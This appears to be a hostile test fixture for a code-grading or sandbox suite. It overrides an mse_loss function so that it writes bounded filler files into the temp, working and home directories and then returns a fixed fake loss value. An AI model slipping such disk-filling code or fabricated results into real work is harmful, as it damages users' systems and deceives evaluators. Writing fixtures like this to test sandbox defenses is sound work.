"""Hostile: fill the disk where it can write (bounded for the test suite: 4 files of 8 MB per folder)."""
import os
import tempfile

from honest import *  # noqa: F403


def mse_loss(y_hat, y):
    chunk = b"\0" * (1 << 20)
    for folder in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~")):
        for i in range(4):
            try:
                with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                    for _ in range(8):
                        f.write(chunk)
            except OSError:
                break
    return 12345.0
